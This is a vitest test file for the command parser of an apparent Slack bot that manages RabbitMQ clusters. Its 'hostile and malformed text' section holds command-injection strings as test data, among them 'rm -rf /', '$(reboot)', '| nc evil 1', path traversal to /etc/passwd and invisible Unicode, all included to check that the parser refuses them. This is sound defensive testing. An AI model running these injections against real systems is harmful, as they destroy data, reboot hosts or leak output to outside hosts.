import { describe, expect, it } from 'vitest';
import { checkClusterKnown, checkHostKnown, parseCommand, MAX_COMMAND_LENGTH } from '../../../src/commands/parse.js';
import { helpLines } from '../../../src/commands/help.js';

function errorOf(text: string) {
  const result = parseCommand(text);
  if (result.ok)
    throw new Error(`expected a usage error for ${JSON.stringify(text)}, got ${JSON.stringify(result.command)}`);
  return result.error;
}

describe('parseCommand', () => {
  it.each([
    ['', { name: 'help' }],
    ['   ', { name: 'help' }],
    ['help', { name: 'help' }],
    ['HELP me', { name: 'help' }],
    ['cluster create rmq-lab', { name: 'cluster.create', cluster: 'rmq-lab', dryRun: false }],
    ['  cluster   create\trmq-lab  --dry-run ', { name: 'cluster.create', cluster: 'rmq-lab', dryRun: true }],
    ['cluster create --dry-run rmq_lab.2', { name: 'cluster.create', cluster: 'rmq_lab.2', dryRun: true }],
    ['Cluster Create rmq-lab', { name: 'cluster.create', cluster: 'rmq-lab', dryRun: false }],
    ['status', { name: 'status' }],
    ['status rmq-lab', { name: 'status', cluster: 'rmq-lab' }],
    ['jobs', { name: 'jobs' }],
    ['node reset rmq-lab mq3', { name: 'node.reset', cluster: 'rmq-lab', host: 'mq3', dryRun: false }],
    ['node remove rmq-lab mq3 --dry-run', { name: 'node.remove', cluster: 'rmq-lab', host: 'mq3', dryRun: true }],
    ['Node ADD --dry-run rmq-lab mq4', { name: 'node.add', cluster: 'rmq-lab', host: 'mq4', dryRun: true }],
    ['cluster teardown rmq-lab', { name: 'cluster.teardown', cluster: 'rmq-lab', dryRun: false }],
    ['cluster teardown rmq-lab --dry-run', { name: 'cluster.teardown', cluster: 'rmq-lab', dryRun: true }],
    ['cluster migrate-to-quorum rmq-lab', { name: 'cluster.migrate-to-quorum', cluster: 'rmq-lab', dryRun: false }],
    [
      'cluster delete-classic-queues rmq-lab --dry-run',
      { name: 'cluster.delete-classic-queues', cluster: 'rmq-lab', dryRun: true },
    ],
    ['audit', { name: 'audit' }],
    ['audit rmq-lab', { name: 'audit', cluster: 'rmq-lab' }],
    ['feature-flags enable rmq-lab', { name: 'feature-flags.enable', cluster: 'rmq-lab', dryRun: false }],
    ['Feature-Flags ENABLE rmq-lab --dry-run', { name: 'feature-flags.enable', cluster: 'rmq-lab', dryRun: true }],
  ])('parses %j', (text, command) => {
    expect(parseCommand(text)).toEqual({ ok: true, command });
  });

  it('reads the dashes and spaces Slack clients substitute as what the user typed', () => {
    expect(parseCommand('cluster create rmq-lab \u2014dry-run')).toEqual({
      ok: true,
      command: { name: 'cluster.create', cluster: 'rmq-lab', dryRun: true },
    });
    expect(parseCommand('cluster\u00a0create rmq-lab \u2013\u2013dry-run')).toEqual({
      ok: true,
      command: { name: 'cluster.create', cluster: 'rmq-lab', dryRun: true },
    });
  });

  it.each([
    ['cluster', 'usage.missing_argument', '"cluster" needs a subcommand'],
    ['cluster delete rmq-lab', 'usage.unknown_command', 'unknown subcommand "cluster delete"'],
    ['cluster create', 'usage.missing_argument', 'cluster create needs a cluster name'],
    ['cluster create a b', 'usage.unexpected_argument', 'unexpected argument "b"'],
    ['cluster create rmq-lab --force', 'usage.unknown_option', 'unknown option "--force"'],
    ['cluster create -rf', 'usage.unknown_option', 'unknown option "-rf"'],
    ['cluster create .hidden', 'usage.bad_name', '".hidden" is not a cluster name'],
    [`cluster create ${'a'.repeat(64)}`, 'usage.bad_name', 'at most 63 characters'],
    ['status a b', 'usage.unexpected_argument', 'unexpected argument "b"'],
    ['status --all', 'usage.unknown_option', 'unknown option "--all"'],
    ['jobs now', 'usage.unexpected_argument', 'unexpected argument "now"'],
    ['stauts', 'usage.unknown_command', 'unknown command "stauts"; did you mean "status"?'],
    ['create rmq-lab', 'usage.unknown_command', 'did you mean "cluster create"?'],
    ['deploy', 'usage.unknown_command', 'unknown command "deploy"'],
    ['node', 'usage.missing_argument', '"node" needs a subcommand'],
    ['node wipe rmq-lab mq3', 'usage.unknown_command', 'unknown subcommand "node wipe"'],
    ['node reset', 'usage.missing_argument', 'node reset needs a cluster name and a host'],
    ['node reset rmq-lab', 'usage.missing_argument', 'node reset needs the host to act on'],
    ['node reset rmq-lab mq3 mq2', 'usage.unexpected_argument', 'unexpected argument "mq2"'],
    ['node reset rmq-lab mq3 --yes', 'usage.unknown_option', 'unknown option "--yes" for node reset'],
    ['node remove rmq-lab .mq3', 'usage.bad_name', '".mq3" is not a host name'],
    ['node add .rmq mq3', 'usage.bad_name', '".rmq" is not a cluster name'],
    ['cluster teardown', 'usage.missing_argument', 'cluster teardown needs a cluster name'],
    ['cluster teardown rmq-lab --force', 'usage.unknown_option', 'unknown option "--force" for cluster teardown'],
    ['cluster teardown a b', 'usage.unexpected_argument', 'unexpected argument "b"'],
    ['cluster migrate-to-quorum', 'usage.missing_argument', 'cluster migrate-to-quorum needs a cluster name'],
    [
      'cluster delete-classic-queues rmq-lab --yes',
      'usage.unknown_option',
      'unknown option "--yes" for cluster delete-classic-queues',
    ],
    ['audit a b', 'usage.unexpected_argument', 'unexpected argument "b"'],
    ['audit --all', 'usage.unknown_option', 'unknown option "--all" for audit'],
    ['reset rmq-lab mq3', 'usage.unknown_command', 'did you mean "node reset"?'],
    ['teardown rmq-lab', 'usage.unknown_command', 'did you mean "cluster teardown"?'],
    ['audti', 'usage.unknown_command', 'did you mean "audit"?'],
    ['feature-flags', 'usage.missing_argument', '"feature-flags" needs a subcommand: feature-flags enable <cluster>'],
    ['feature-flags disable rmq-lab', 'usage.unknown_command', 'unknown subcommand "feature-flags disable"'],
    ['feature-flags enable', 'usage.missing_argument', 'feature-flags enable needs a cluster name'],
    ['feature-flags enable rmq-lab --all', 'usage.unknown_option', 'unknown option "--all" for feature-flags enable'],
    ['feature-flags enable a b', 'usage.unexpected_argument', 'unexpected argument "b"'],
    ['feature-flags enable .rmq', 'usage.bad_name', '".rmq" is not a cluster name'],
    ['feature-flag enable rmq-lab', 'usage.unknown_command', 'did you mean "feature-flags"?'],
  ])('refuses %j with %s', (text, code, message) => {
    const error = errorOf(text);
    expect(error.code).toBe(code);
    expect(error.message).toContain(message);
    expect(error.usage.length).toBeGreaterThan(0);
  });

  describe('hostile and malformed text', () => {
    it.each([
      ['cluster create "rmq-lab"', 'U+0022 (") at position 16'],
      ["cluster create 'rmq-lab'", "U+0027 (') at position 16"],
      ['cluster create rmq-lab; rm -rf /', 'U+003B (;) at position 23'],
      ['cluster create $(reboot)', 'U+0024 ($) at position 16'],
      ['cluster create `reboot`', 'U+0060 (`) at position 16'],
      ['status rmq-lab && halt', 'U+0026 (&)'],
      ['status rmq-lab | nc evil 1', 'U+007C (|)'],
      ['status ../../etc/passwd', 'U+002F (/)'],
      ['status <@U0123ABCD>', 'U+003C (<)'],
      ['status r\u00e9seau', 'U+00E9 at position 9'],
      ['status \u{1F407}', 'U+1F407 at position 8'],
      ['status rmq\u200blab', 'U+200B'],
      ['status rmq\u0000lab', 'U+0000'],
      ['status \u202erab', 'U+202E'],
      ['node reset rmq-lab mq3;reboot', 'U+003B (;) at position 23'],
      ['node remove rmq-lab $(id)', 'U+0024 ($)'],
      ['node add rmq-lab mq4 `id`', 'U+0060 (`)'],
      ['node reset rmq-lab ../mq3', 'U+002F (/)'],
      ['node reset rmq-lab mq3 <!channel>', 'U+003C (<)'],
      ['cluster teardown rmq-lab || true', 'U+007C (|)'],
      ['audit rmq\u200blab', 'U+200B'],
      ['node reset rmq-lab m\u0131q3', 'U+0131'],
    ])('%j is a usage error naming the character', (text, fragment) => {
      const error = errorOf(text);
      expect(error.code).toBe('usage.bad_character');
      expect(error.message).toContain(fragment);
    });

    it.each([
      'cluster create a\nreboot',
      'status\r\nx',
      'jobs\u2028',
      'node reset rmq-lab mq3\ncluster teardown rmq-lab',
    ])('%j spans lines and is refused', (text) => {
      expect(errorOf(text).code).toBe('usage.multiline');
    });

    it('refuses very long text without echoing it', () => {
      const text = `status ${'a'.repeat(100_000)}`;
      const error = errorOf(text);
      expect(error.code).toBe('usage.too_long');
      expect(error.message).toBe(
        `the command is ${text.length} characters long; commands are at most ${MAX_COMMAND_LENGTH}`,
      );
    });

    it('never throws, whatever the input', () => {
      const samples = [
        '\u0000',
        '\uD800',
        '--',
        '-',
        '—',
        '....',
        '\t\t',
        'cluster create -',
        '%00',
        '\\',
        '{}',
        'status .',
        'status -',
        'node',
        'node reset - -',
        'node add __proto__ constructor',
        'audit -',
        'cluster teardown —',
      ];
      for (const text of samples) expect(() => parseCommand(text)).not.toThrow();
      expect(errorOf('\uD800').code).toBe('usage.bad_character');
    });
  });
});

describe('checkClusterKnown', () => {
  const config = { clusters: [{ name: 'rmq-lab' }, { name: 'prod' }] } as Parameters<typeof checkClusterKnown>[1];

  it('accepts configured clusters and commands without one', () => {
    expect(checkClusterKnown({ name: 'status', cluster: 'prod' }, config)).toBeUndefined();
    expect(checkClusterKnown({ name: 'status' }, config)).toBeUndefined();
    expect(checkClusterKnown({ name: 'jobs' }, config)).toBeUndefined();
  });

  it('names the known clusters when the name is unknown', () => {
    expect(checkClusterKnown({ name: 'cluster.create', cluster: 'staging', dryRun: false }, config)).toEqual({
      code: 'usage.unknown_cluster',
      message: 'unknown cluster "staging"; known clusters: rmq-lab, prod',
      usage: [expect.stringContaining('cluster create <cluster>')],
    });
  });
});

describe('helpLines', () => {
  it('lists every command with the prefix', () => {
    const lines = helpLines('/rabbit');
    expect(lines.map((l) => l.split(' — ')[0])).toEqual([
      '/rabbit help',
      '/rabbit cluster create <cluster> [--dry-run]',
      '/rabbit status [<cluster>]',
      '/rabbit jobs',
      '/rabbit node reset <cluster> <host> [--dry-run]',
      '/rabbit node remove <cluster> <host> [--dry-run]',
      '/rabbit node add <cluster> <host> [--dry-run]',
      '/rabbit cluster teardown <cluster> [--dry-run]',
      '/rabbit audit [<cluster>]',
      '/rabbit upgrade-check <cluster> [--to <version>]',
      '/rabbit cluster migrate-to-quorum <cluster> [--dry-run]',
      '/rabbit cluster delete-classic-queues <cluster> [--dry-run]',
      '/rabbit feature-flags enable <cluster> [--dry-run]',
      '/rabbit cluster restart <cluster> [--dry-run]',
      '/rabbit watch <cluster> [<channel>]',
      '/rabbit unwatch <cluster>',
      '/rabbit watches',
    ]);
  });

  it('parses cluster restart with and without --dry-run', () => {
    expect(parseCommand('cluster restart rmq-lab')).toEqual({
      ok: true,
      command: { name: 'cluster.restart', cluster: 'rmq-lab', dryRun: false },
    });
    expect(parseCommand('cluster restart rmq-lab --dry-run')).toEqual({
      ok: true,
      command: { name: 'cluster.restart', cluster: 'rmq-lab', dryRun: true },
    });
    const missing = parseCommand('cluster restart');
    expect(missing.ok || missing.error.code).toBe('usage.missing_argument');
    const bad = parseCommand('cluster restart rmq-lab --force');
    expect(bad.ok || bad.error.code).toBe('usage.unknown_option');
  });
});

describe('checkHostKnown', () => {
  const config = { hosts: [{ name: 'mq1' }, { name: 'mq2' }, { name: 'mq4' }] } as Parameters<typeof checkHostKnown>[1];

  it('accepts any inventory host (membership is for the gates) and commands without a host', () => {
    expect(
      checkHostKnown({ name: 'node.add', cluster: 'rmq-lab', host: 'mq4', dryRun: false }, config),
    ).toBeUndefined();
    expect(checkHostKnown({ name: 'cluster.teardown', cluster: 'rmq-lab', dryRun: false }, config)).toBeUndefined();
    expect(checkHostKnown({ name: 'status' }, config)).toBeUndefined();
  });

  it('lists the inventory hosts when the host is unknown', () => {
    expect(checkHostKnown({ name: 'node.reset', cluster: 'rmq-lab', host: 'mq9', dryRun: false }, config)).toEqual({
      code: 'usage.unknown_host',
      message: 'unknown host "mq9"; inventory hosts: mq1, mq2, mq4',
      usage: [expect.stringContaining('node reset <cluster> <host>')],
    });
  });
});
